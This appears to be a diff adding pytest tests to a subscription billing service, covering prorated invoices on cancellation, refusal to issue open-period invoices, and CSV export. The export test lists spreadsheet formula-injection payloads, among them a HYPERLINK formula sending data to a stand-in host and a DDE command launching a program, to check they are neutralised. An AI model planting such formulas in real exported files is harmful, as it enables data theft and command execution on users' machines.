@@ -9,9 +9,10 @@ from decimal import Decimal
 
 import pytest
 
+from billing.domain.invoice_export import NUMBER_COLUMNS
 from billing.domain.values import format_timestamp, parse_timestamp
 
-from .test_plans_http import error_of
+from .test_plans_http import TERMS, error_of, new_plan_id
 from .test_subscriptions_http import assert_ledger_is_honest, ledger, new_org, subscribe
 from .test_usage_http import record, usage_body
 
@@ -270,3 +271,64 @@ def test_the_scheduled_run_leaves_an_issued_invoice_alone(server, token):
 def test_the_scheduled_run_rejects_an_event_without_a_time(server):
     response = server.request("POST", "/_local/invoke/InvoicingRunFunction", json={"detail": {}})
     assert response.status_code == 500 and response.json()["errorType"] == "ValidationFailed"
+
+
+# --- money safety -----------------------------------------------------------------------------
+
+def test_subscribing_using_the_allowance_and_canceling_at_once_pays_for_the_allowance(server, token):
+    org = new_org()
+    sid = subscribe(server, token, org)["subscription_id"]
+    assert record(server, token, usage_body(org, quantity="200")).status_code == 201  # 1000 credits: all of it
+    server.request("POST", f"/subscriptions/{sid}/cancel", token=token("org:admin", org=org))
+    invoice = draft(server, token, sid).json()
+    [base] = invoice["line_items"]
+    assert base["amount_cents"] == 49_900 and base["quantity"] == "1" and base["unit_amount_cents"] == "49900"
+    assert "1000 of 1000 allowance credits used" in base["description"] and "prorated at 100%" in base["description"]
+
+
+def test_a_canceled_period_bills_the_larger_of_time_and_allowance_used(server, token):
+    org = new_org()
+    sid = subscribe(server, token, org)["subscription_id"]
+    assert record(server, token, usage_body(org, quantity="50")).status_code == 201  # 250 of 1000: a quarter
+    server.request("POST", f"/subscriptions/{sid}/cancel", token=token("org:admin", org=org))
+    [base] = draft(server, token, sid).json()["line_items"]
+    assert base["quantity"] == "0.25" and base["amount_cents"] == 12_475  # 49,900 x 0.25
+
+
+def test_an_open_period_is_not_issued_and_later_usage_lands_on_its_invoice(server, token):
+    org = new_org()
+    sid = with_overage(server, token, org)["subscription_id"]  # 5 credits over
+    invoice = draft(server, token, sid).json()
+    refused = server.request("POST", f"/subscriptions/{sid}/invoices/{invoice['invoice_id']}/issue", token=token("finance"))
+    assert refused.status_code == 409 and error_of(refused)["code"] == "period_open"
+    assert error_of(refused)["details"]["period_end"] == invoice["period_end"]
+    assert server.request("GET", f"/subscriptions/{sid}/invoices/{invoice['invoice_id']}", token=token("finance")).json() == invoice
+    assert record(server, token, usage_body(org, quantity="20")).status_code == 201  # 100 more over
+    end_period(server, token, sid)
+    issued = server.request("POST", f"/subscriptions/{sid}/invoices/{invoice['invoice_id']}/issue", token=token("finance")).json()
+    overage = [line for line in issued["line_items"] if line["kind"] == "overage"]
+    assert issued["status"] == "issued" and [line["quantity"] for line in overage] == ["105"]  # every credit over, billed
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A2,"Pay here")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)", "\tTAB", "\rCR"]
+
+
+@pytest.mark.parametrize("name", FORMULAS)
+def test_exported_text_cells_never_run_as_spreadsheet_formulas(server, token, name):
+    plan_id = new_plan_id()
+    terms = {**TERMS, "name": name.strip() or "x", "billing_cadence": "monthly"}
+    assert server.request("POST", "/plans", token=token("marketplace:admin"), json={"plan_id": plan_id, **terms}).status_code == 201
+    org = new_org()
+    sid = subscribe(server, token, org, plan_id=plan_id)["subscription_id"]
+    invoice = draft(server, token, sid).json()
+    path = f"/subscriptions/{sid}/invoices/{invoice['invoice_id']}/export"
+    rows = list(csv.DictReader(io.StringIO(server.request("GET", path, token=token("finance")).text)))
+    assert rows[0]["description"].startswith("'" + terms["name"][:1]) or not terms["name"].startswith(("=", "+", "-", "@"))
+    for row in rows:
+        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for column, cell in row.items() if column not in NUMBER_COLUMNS)
+        assert int(row["amount_cents"]) == row_amount(row)
+
+
+def row_amount(row):
+    """Numbers stay numbers: a spreadsheet reads these columns as values, unprefixed."""
+    return int(Decimal(row["amount"]) * 100)
